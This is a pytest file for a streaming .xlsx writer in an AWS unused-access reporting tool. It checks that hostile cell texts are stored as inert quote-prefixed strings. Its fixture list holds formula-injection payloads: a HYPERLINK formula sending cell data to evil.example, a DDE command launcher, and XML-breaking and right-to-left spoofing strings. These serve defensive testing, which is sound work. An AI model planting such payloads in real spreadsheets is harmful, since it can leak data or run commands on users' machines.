"""The streaming .xlsx writer (`reporter.render.sheetxml`) and the workbooks built with it.

Every file is read back with openpyxl, in normal and in read-only mode, and its package parts
are parsed as XML: values and types, formula safety, links, layout, and reproducible bytes.
"""

from __future__ import annotations

import io
import posixpath
import zipfile
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from typing import Any
from xml.etree import ElementTree

import openpyxl
import pytest

from reporter.aggregate import sort_items
from reporter.models import OwnerReport
from reporter.render import data, sheetxml, xlsx
from reporter.render.sheetxml import Link, ListValidation, Look, Workbook
from tests import factories as fx

STAMP = datetime(2025, 3, 10, 6, 30, tzinfo=UTC)
PLUS_TWO = timezone(timedelta(hours=2))

HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "=1+1\r\nsecond line",
    "invoice\u202etxt.exe",
    "<script>alert('x')</script> & \"quotes\"",
    "  padded  ",
    "line one\nline two\n",
    "]]></t></is></c><c><f>1+1</f></c>",
)


def load(blob: bytes, read_only: bool = False) -> Any:
    return openpyxl.load_workbook(io.BytesIO(blob), read_only=read_only)


def cells(book: Any) -> Iterator[Any]:
    for ws in book.worksheets:
        for row in ws.iter_rows():
            yield from row


def package_problems(blob: bytes) -> list[str]:
    """Structural check: valid zip, every part well-formed XML, every listed part present."""
    problems = []
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        if archive.testzip() is not None:
            problems.append("corrupt member")
        names = set(archive.namelist())
        parsed = {name: ElementTree.fromstring(archive.read(name)) for name in names}
        types = parsed["[Content_Types].xml"]
        ns = "{http://schemas.openxmlformats.org/package/2006/content-types}"
        overridden = {o.get("PartName", "").lstrip("/") for o in types.iter(f"{ns}Override")}
        problems += [f"content type for missing {part}" for part in overridden - names]
        problems += [
            f"no content type for {name}"
            for name in names
            if name.endswith(".xml") and name not in overridden and name != "[Content_Types].xml"
        ]
        rel_ns = "{http://schemas.openxmlformats.org/package/2006/relationships}"
        for name in names:
            if not name.endswith(".rels"):
                continue
            folder = posixpath.dirname(posixpath.dirname(name))
            for rel in parsed[name].iter(f"{rel_ns}Relationship"):
                if rel.get("TargetMode") == "External":
                    continue
                target = posixpath.normpath(posixpath.join(folder, rel.get("Target", "")))
                if target not in names:
                    problems.append(f"{name} points at missing {target}")
    return problems


# ---- the writer -------------------------------------------------------------------------------


def small_book(*rows: list[Any], links: bool = True) -> bytes:
    book = Workbook(STAMP, "Test book")
    with book.sheet(
        "Data",
        (12, 30, 8),
        freeze_header=True,
        auto_filter=True,
        validation=ListValidation("C2:C9", ("Yes", "No"), "Pick", "Choose one.", "Yes or No."),
    ) as sheet:
        sheet.row(("name", "value", "choice"), Look.HEADER)
        for row in rows:
            sheet.row(row, (Look.PLAIN, Look.WRAP, Look.TOP))
    with book.sheet("Second", (10,)) as sheet:
        sheet.row(("only",))
    return book.finish()


def test_hostile_texts_are_strings_kept_exactly_and_quote_prefixed() -> None:
    blob = small_book(*([f"t{n}", text] for n, text in enumerate(HOSTILE_TEXTS)))
    for read_only in (False, True):
        ws = load(blob, read_only)["Data"]
        values = [row[1].value for row in ws.iter_rows(min_row=2)]
        assert values == list(HOSTILE_TEXTS)
        assert all(row[1].data_type == "s" for row in ws.iter_rows(min_row=2))
    ws = load(blob)["Data"]
    for (cell,) in ws.iter_rows(min_row=2, min_col=2, max_col=2):
        assert cell.quotePrefix == cell.value.startswith(data.FORMULA_TRIGGERS), cell.value
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet and b"<f " not in sheet


def test_characters_xml_cannot_carry_are_replaced_and_long_texts_cut() -> None:
    long = "y" * 40_000
    blob = small_book(
        ["ctl", "bell\x07 nul\x00 esc\x1b"],
        ["surrogate", "half \ud800 pair"],
        ["nonchars", "a\ufffeb\uffffc"],
        ["long", long],
        ["long+ctl", "\x01" + long],
    )
    for read_only in (False, True):
        rows = list(load(blob, read_only)["Data"].iter_rows(min_row=2, values_only=True))
        assert [r[1] for r in rows] == [
            "bell\ufffd nul\ufffd esc\ufffd",
            "half \ufffd pair",
            "a\ufffdb\ufffdc",
            "y" * xlsx.MAX_TEXT,
            "\ufffd" + "y" * (xlsx.MAX_TEXT - 1),
        ]


def test_typed_values_read_back_with_their_types() -> None:
    moment = datetime(2025, 1, 31, 8, 15, 42)
    blob = small_book(
        ["int", 42],
        ["float", 2.5],
        ["true", True],
        ["false", False],
        ["zero", 0],
        ["date", date(2025, 2, 28)],
        ["datetime", moment],
        ["aware", datetime(2025, 1, 31, 9, 15, 42, tzinfo=PLUS_TWO)],
        ["old date", date(1899, 1, 1)],
        ["nan", float("nan")],
        ["empty", ""],
        ["none", None],
    )
    for read_only in (False, True):
        rows = {
            # Read-only rows end at their last cell: the writer gives no <dimension> to pad to.
            r[0]: (*r, None)[1]
            for r in load(blob, read_only)["Data"].iter_rows(min_row=2, values_only=True)
        }
        assert rows["int"] == 42 and type(rows["int"]) is int
        assert rows["float"] == 2.5
        assert rows["true"] is True and rows["false"] is False
        assert rows["zero"] == 0 and type(rows["zero"]) is int
        assert rows["date"] == datetime(2025, 2, 28)
        assert rows["datetime"] == moment
        assert rows["old date"] == "1899-01-01"  # before Excel's reliable day numbers: text
        assert rows["nan"] == "nan"
        assert rows["empty"] is None and rows["none"] is None
    ws = load(blob)["Data"]
    by_name = {row[0].value: row[1] for row in ws.iter_rows(min_row=2)}
    assert by_name["date"].number_format == sheetxml.DATE_FORMAT and by_name["date"].is_date
    assert by_name["datetime"].number_format == sheetxml.DATETIME_FORMAT
    assert by_name["aware"].value == datetime(2025, 1, 31, 7, 15, 42)
    # A date in a top-aligned column keeps both the date format and the alignment.
    assert by_name["datetime"].alignment.vertical == "top"


def test_unknown_value_types_are_refused() -> None:
    book = Workbook(STAMP, "t")
    with pytest.raises(TypeError, match="no cell type for bytes"), book.sheet("S", (1,)) as s:
        s.row((b"raw",))


def test_sheet_names_and_order_of_use_are_checked() -> None:
    book = Workbook(STAMP, "t")
    for bad in ("", "a" * 32, "a/b", "x[1]", "'quoted"):
        with pytest.raises(ValueError, match="not a valid sheet name"):
            book.sheet(bad, (1,))
    first = book.sheet("One", (1,))
    with pytest.raises(RuntimeError, match="close the previous sheet"):
        book.sheet("Two", (1,))
    with pytest.raises(RuntimeError, match="still open"):
        book.finish()
    first.close()
    assert book.finish()


def test_links_layout_validation_and_package() -> None:
    url = "https://console.aws.amazon.com/iam/home?a=1&b=2#/roles/details/x"
    blob = small_book(["link", Link(url, url)], ["text", "plain"])
    assert package_problems(blob) == []
    book = load(blob)
    assert book.sheetnames == ["Data", "Second"]
    ws = book["Data"]
    link = ws["B2"]
    assert link.value == url and link.hyperlink.target == url
    assert link.font.underline == "single"
    assert ws["B3"].hyperlink is None
    assert ws.freeze_panes == "A2" and book["Second"].freeze_panes is None
    assert ws.auto_filter.ref == "A1:C3"
    assert [ws.column_dimensions[c].width for c in "ABC"] == [12, 30, 8]
    (validation,) = ws.data_validations.dataValidation
    assert validation.type == "list" and validation.formula1 == '"Yes,No"'
    assert str(validation.sqref) == "C2:C9" and validation.prompt == "Choose one."
    assert ws["A1"].font.bold and ws["B3"].alignment.wrap_text
    assert book.properties.creator == "unused-access-reporter"
    assert book.properties.title == "Test book"
    assert book.properties.created == STAMP.replace(tzinfo=None)
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        names = archive.namelist()
        workbook = archive.read("xl/workbook.xml").decode()
        assert {i.date_time for i in archive.infolist()} == {(2025, 3, 10, 6, 30, 0)}
    assert "xl/worksheets/_rels/sheet1.xml.rels" in names
    assert "xl/worksheets/_rels/sheet2.xml.rels" not in names  # no links, no part
    assert "'Data'!$A$1:$C$3" in workbook  # the filter's defined name Excel expects


def test_links_beyond_excels_limit_stay_text(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheetxml, "MAX_LINKS", 2)
    urls = [f"https://example.com/{n}" for n in range(4)]
    blob = small_book(*(["l", Link(u, u)] for u in urls))
    assert package_problems(blob) == []
    ws = load(blob)["Data"]
    cells_ = [row[1] for row in ws.iter_rows(min_row=2)]
    assert [c.value for c in cells_] == urls
    assert [bool(c.hyperlink) for c in cells_] == [True, True, False, False]


def test_rows_beyond_excels_limit_end_in_a_note(monkeypatch: pytest.MonkeyPatch) -> None:
    # A sheet of more than 1,048,576 rows does not open in Excel; the writer stops one short
    # and says in the last row how many it left out.
    monkeypatch.setattr(sheetxml, "MAX_ROWS", 6)
    blob = small_book(*([f"n{n}", n, "Yes"] for n in range(9)))
    assert package_problems(blob) == []
    ws = load(blob)["Data"]
    values = [row[0].value for row in ws.iter_rows()]
    assert values[:5] == ["name", "n0", "n1", "n2", "n3"]
    assert len(values) == 6 and ws.max_row == 6
    assert values[5].startswith("…and 5 more rows: a worksheet holds at most 6.")
    assert ws.auto_filter.ref == "A1:C6"


def test_organization_workbook_at_excels_row_limit(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sheetxml, "MAX_ROWS", 40)
    monkeypatch.setattr(xlsx, "MAX_ROWS", 40)
    items = fx.many_items(30)
    summary = fx.make_summary(reports=(fx.make_report(items=items),), unowned=())
    blob = xlsx.render_summary_xlsx(summary)
    assert package_problems(blob) == []
    book = load(blob)
    findings = book["Findings"]
    assert findings.max_row == 31  # every finding fits
    steps = book["Remediation"]
    total = sum(len(i.remediation) for i in items)
    assert total > 40
    assert steps.max_row == 40
    assert steps.cell(40, 1).value == (
        f"…and {total - 38:,} more rows: a worksheet holds at most 40. "
        "data/findings.json and data/findings.csv have every finding and step."
    )
    # The data validations of the Decision and Keep until columns stay inside the sheet.
    for validation in findings.data_validations.dataValidation:
        assert str(validation.sqref).endswith("31")


def test_same_rows_give_the_same_bytes() -> None:
    rows = [["a", HOSTILE_TEXTS[0]], ["b", Link("https://x.example/", "https://x.example/")]]
    assert small_book(*rows) == small_book(*rows)


def test_many_rows_stream_through_the_compressor_in_chunks() -> None:
    count = 3 * 512 + 7  # several flushes of rows and of spooled links
    book = Workbook(STAMP, "t")
    with book.sheet("Rows", (10, 10, 10), auto_filter=True) as sheet:
        for n in range(count):
            sheet.row((n, f"=row {n}", Link(f"https://e.example/{n}", f"https://e.example/{n}")))
    blob = book.finish()
    assert package_problems(blob) == []
    rows = list(load(blob, read_only=True)["Rows"].iter_rows(values_only=True))
    assert rows == [(n, f"=row {n}", f"https://e.example/{n}") for n in range(count)]
    ws = load(blob)["Rows"]
    assert sum(1 for row in ws.iter_rows() if row[2].hyperlink) == count
    assert ws.auto_filter.ref == f"A1:C{count}"


# ---- the workbooks ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_report() -> OwnerReport:
    huge = "z" * 40_000
    extra = (
        fx.make_item(finding=fx.make_finding(name="\x07bell" + huge), priority=1),
        fx.make_item(finding=fx.make_finding(name="@SUM(1)\r\n-x"), priority=2),
    )
    return fx.make_report(items=fx.sample_items() + fx.hostile_items() + extra)


@pytest.fixture(scope="module")
def owner_blob(hostile_report: OwnerReport) -> bytes:
    return xlsx.render_owner_xlsx(hostile_report)


SHEETS = ["Summary", "Findings", "Remediation", "Exceptions", "Coverage"]


def test_workbook_package_is_sound_and_reproducible(
    hostile_report: OwnerReport, owner_blob: bytes
) -> None:
    assert package_problems(owner_blob) == []
    assert xlsx.render_owner_xlsx(hostile_report) == owner_blob
    summary = fx.make_summary()
    blob = xlsx.render_summary_xlsx(summary)
    assert package_problems(blob) == [] and blob == xlsx.render_summary_xlsx(summary)
    assert load(blob).sheetnames == SHEETS
    assert load(owner_blob, read_only=True).sheetnames == [*SHEETS, "Review"]


@pytest.mark.parametrize("read_only", [False, True])
def test_findings_values_and_types_per_column(
    hostile_report: OwnerReport, owner_blob: bytes, read_only: bool
) -> None:
    ws = load(owner_blob, read_only)["Findings"]
    rows = list(ws.iter_rows(values_only=True))
    assert list(rows[0]) == ["Decision", "Keep until", "Reason", *xlsx.SHEET_FIELDS]
    records = [data.flat_record(data.finding_record(i)) for i in sort_items(hostile_report.items)]
    assert len(rows) - 1 == len(records)
    expected_type = {"int": int, "bool": bool, "date": datetime, "datetime": datetime}
    for row, record in zip(rows[1:], records, strict=True):
        for column, value in zip(xlsx.FINDING_COLUMNS, row[3:], strict=False):
            raw = record[column.field]
            if raw is None or raw == "":
                assert value is None, column.field
            elif column.kind in expected_type:
                assert type(value) is expected_type[column.kind], column.field
            else:
                assert value == xlsx.clean_text(raw), column.field


def test_every_formula_looking_text_is_a_quote_prefixed_string(owner_blob: bytes) -> None:
    book = load(owner_blob)
    triggered = 0
    for cell in cells(book):
        assert cell.data_type != "f", cell.coordinate
        if isinstance(cell.value, str) and cell.value.startswith(data.FORMULA_TRIGGERS):
            assert cell.data_type == "s" and cell.quotePrefix, (cell.parent.title, cell.value)
            triggered += 1
    texts = {c.value for c in cells(book) if isinstance(c.value, str)}
    assert triggered > 20
    assert "@SUM(1)\r\n-x" in texts  # CR survives the XML round trip
    assert "\ufffdbell" + "z" * (xlsx.MAX_TEXT - 5) in texts  # principal_name, cut and cleaned
    assert f"arn:aws:iam::444444444444:user/{fx.RTL}" in texts


def test_findings_sheet_links_layout_and_validation(
    hostile_report: OwnerReport, owner_blob: bytes
) -> None:
    ws = load(owner_blob)["Findings"]
    header = [c.value for c in ws[1]]
    last = len(hostile_report.items) + 1
    for field in ("link_console", "link_access_analyzer", "link_security_hub"):
        n = header.index(field) + 1
        for item, (cell,) in zip(
            sort_items(hostile_report.items),
            ws.iter_rows(min_row=2, min_col=n, max_col=n),
            strict=True,
        ):
            url = getattr(item.links, field.removeprefix("link_"))
            if data.linkable(url) and len(url) <= xlsx.MAX_LINK:
                assert cell.value == url and cell.hyperlink.target == url, field
            else:
                assert cell.hyperlink is None
    assert ws.freeze_panes == "E2"
    assert ws.auto_filter.ref == f"A1:{sheetxml.column_letter(len(header))}{last}"
    decision = sheetxml.column_letter(header.index("Decision") + 1)
    validation, _ = ws.data_validations.dataValidation
    assert str(validation.sqref) == f"{decision}2:{decision}{last}"
    assert validation.formula1 == '"' + ",".join(xlsx.DECISIONS) + '"'
    widths = [
        ws.column_dimensions[sheetxml.column_letter(header.index(name) + 1)].width
        for name in ("key", "principal_arn", "review_reason")
    ]
    assert widths == [40, 48, 40]
    assert ws["A1"].font.bold and ws[f"{decision}1"].fill.fgColor.rgb.endswith("B45309")


def test_remediation_and_summary_sheets(hostile_report: OwnerReport, owner_blob: bytes) -> None:
    book = load(owner_blob)
    remediation = list(book["Remediation"].iter_rows(min_row=2))
    assert len(remediation) == sum(len(i.remediation) for i in hostile_report.items)
    assert all(type(row[3].value) is int for row in remediation)
    command = next(r[5] for r in remediation if str(r[5].value).startswith("=HYPERLINK"))
    assert command.alignment.wrap_text and command.quotePrefix
    assert not [c for row in remediation for c in row if c.hyperlink]  # console_url is text
    summary = book["Summary"]
    assert summary["A1"].value == "Unused access report" and summary["A1"].font.size == 14
    values = {r[0]: r[1] for r in summary.iter_rows(values_only=True) if r[0]}
    assert values["Owner"] == fx.OWNER
    assert values["Generated (UTC)"] == fx.GENERATED_AT.replace(tzinfo=None)
    assert values["Period start"] == datetime.combine(
        hostile_report.context.period_start, datetime.min.time()
    )


def test_organization_workbook_with_many_findings() -> None:
    items = fx.many_items(1_200)
    summary = fx.make_summary(reports=(fx.make_report(items=items),), unowned=())
    blob = xlsx.render_summary_xlsx(summary)
    assert package_problems(blob) == []
    book = load(blob, read_only=True)
    findings = list(book["Findings"].iter_rows(min_row=2, values_only=True))
    assert len(findings) == len(items)
    keys = [r[3 + xlsx.SHEET_FIELDS.index("key")] for r in findings]
    assert keys == [i.finding.key for i in sort_items(items)]
    steps = list(book["Remediation"].iter_rows(min_row=2, values_only=True))
    assert len(steps) == sum(len(i.remediation) for i in items)


def test_dates_are_utc_wall_clock() -> None:
    moment = datetime(2025, 6, 1, 23, 30, tzinfo=UTC) + timedelta(seconds=7)
    assert xlsx._to_excel_datetime(data.iso_datetime(moment) or "") == datetime(
        2025, 6, 1, 23, 30, 7
    )
    assert xlsx._to_excel_datetime("2025-06-02T01:30:07+02:00") == datetime(2025, 6, 1, 23, 30, 7)
